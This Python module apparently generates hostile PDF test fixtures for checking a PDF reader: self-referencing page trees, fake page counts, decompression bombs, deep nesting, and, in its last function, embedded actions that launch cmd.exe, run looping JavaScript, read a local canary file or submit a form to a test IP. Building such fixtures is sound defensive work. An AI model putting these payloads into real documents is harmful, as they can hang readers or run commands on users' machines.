"""PDFs made to do harm: trees that lead into themselves, lies about pages, packed bombs, actions."""

from __future__ import annotations

from typing import TYPE_CHECKING

from hostile.valid import PAGE_TEXT, pdf, pdf_objects, stream

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

Made = tuple[str, bytes]


def changed(**objects: bytes) -> bytes:
    """Make the honest PDF with other objects: ``o2=b"..."`` is object 2."""
    return pdf(pdf_objects() | {int(name[1:]): content for name, content in objects.items()})


def loops(canary: Path) -> Iterator[Made]:
    """Structures that never end for who follows them."""
    pages = b"<< /Type /Pages /Kids [%s] /Count %d >>"
    yield "self.pdf", changed(o2=pages % (b"2 0 R", 1))
    yield "self-many.pdf", changed(o2=pages % (b"2 0 R " * 1_000 + b"3 0 R", 1_001))
    yield "mutual.pdf", changed(o2=pages % (b"6 0 R 3 0 R", 2), o6=pages % (b"2 0 R", 1))
    yield "parent.pdf", changed(o3=b"<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>")
    yield "parents.pdf", changed(o2=b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>")
    yield "length.pdf", changed(o4=b"<< /Length 4 0 R >>\nstream\n" + PAGE_TEXT + b"\nendstream")
    yield "contents.pdf", changed(o4=b"[4 0 R 4 0 R]")
    form = stream(
        b"/X Do " * 10, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    use = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /X 6 0 R >> >> >>"
    yield "form.pdf", changed(o3=use, o4=stream(b"/X Do"), o6=stream(b"/X Do " * 10, form))
    extends = stream(b"3 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")
    yield "object-stream.pdf", changed(o6=extends)
    yield "object-stream-own.pdf", changed(o6=stream(b"6 0 << >>", b"/Type /ObjStm /N 1 /First 4"))
    yield "object-stream-many.pdf", changed(o6=stream(b"6 0 " * 9_999, b"/Type /ObjStm /N 999999999 /First 4"))
    honest = pdf(pdf_objects())
    start = honest.rfind(b"xref\n0")
    yield "previous.pdf", pdf(pdf_objects(), trailer=b"/Prev %d" % start)
    yield "previous-stream.pdf", pdf(pdf_objects(), trailer=b"/XRefStm %d" % start)
    yield "root.pdf", pdf(pdf_objects(), root=2)
    outlines = b"<< /Title (x) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R /Last 7 0 R >>"
    yield "outlines.pdf", changed(o1=b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>", o6=outlines, o7=outlines)
    unicode_map = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 5 0 R /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>"
    )
    yield "font.pdf", changed(o5=unicode_map)
    for depth in (10, 1_000, 100_000):
        yield f"arrays-{depth}.pdf", changed(o6=b"[" * depth + b"]" * depth)
        yield f"states-{depth}.pdf", changed(o4=stream(b"q " * depth + PAGE_TEXT + b" Q" * depth))


def many_pages(canary: Path) -> Iterator[Made]:
    """PDFs that have, or say they have, more pages than anybody reads."""
    for count in (0, -1, 501, 1_000_000, 2_147_483_647, 1 << 40):
        yield f"count-{count}.pdf", changed(o2=b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count)
    for times in (600, 5_000):
        kids = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * times, times)
        yield f"same-{times}.pdf", changed(o2=kids)
    yield "million.pdf", million_pages()


def million_pages(levels: int = 6) -> bytes:
    """Make a small PDF of a million pages: ten of ten of ten, six levels deep, of one page."""
    objects = pdf_objects()
    first = 10
    for level in range(levels):
        child = 3 if level == 0 else first + level - 1
        objects[first + level] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
            b"%d 0 R " % child * 10,
            10 ** (level + 1),
        )
    objects[1] = b"<< /Type /Catalog /Pages %d 0 R >>" % (first + levels - 1)
    return pdf(objects)


def packed_bombs(canary: Path) -> Iterator[Made]:
    """Streams that unpack to much, and ask for much."""
    for size in (5, 50):
        for times in (1, 2, 3):
            yield f"packed-{size}-{times}.pdf", changed(o4=stream(b" " * (size << 20), times=times))
    for content in (
        b"(x) Tj " * 200_000,
        b"0 0 m 9 9 l S " * 100_000,
        b"BT " * 100_000,
        b"\xff" * 100_000,
        b"<" * 100_000,
    ):
        yield f"content-{content[:2].hex()}.pdf", changed(o4=stream(content))
    for box in (b"[0 0 1e38 1e38]", b"[0 0 0 0]", b"[9 9 -9 -9]", b"[(a) (b)]", b"[nan inf 0 0]"):
        yield (
            f"box-{box.hex()[:12]}.pdf",
            changed(o3=b"<< /Type /Page /Parent 2 0 R /MediaBox " + box + b" /Contents 4 0 R >>"),
        )


def actions(canary: Path) -> Iterator[Made]:
    """PDFs that would run, open or send something."""
    place = str(canary).encode()
    for number, action in enumerate(
        (
            b"/S /JavaScript /JS (app.launchURL\\('file://%s'\\); while \\(true\\) {})" % place,
            b"/S /Launch /F (/usr/bin/touch) /Win << /F (cmd.exe) /P (/c pwned) >>",
            b"/S /URI /URI (file://%s)" % place,
            b"/S /GoToR /F (%s) /D [0 /Fit]" % place,
            b"/S /SubmitForm /F (http://192.0.2.1/x)",
            b"/S /ImportData /F (%s)" % place,
        )
    ):
        yield f"open-{number}.pdf", changed(o1=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> >>" % action)
        yield f"page-{number}.pdf", changed(o3=pdf_objects()[3][:-2] + b"/AA << /O << %s >> >> >>" % action)
    outside = b"<< /Type /Filespec /F (%s) >>" % place
    yield "stream.pdf", changed(o4=b"<< /Length 0 /F %s >>\nstream\n\nendstream" % outside)
    yield (
        "form-data.pdf",
        changed(
            o1=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA (<x xmlns:xi='y'><xi:include href='%s'/></x>) >> >>"
            % place
        ),
    )
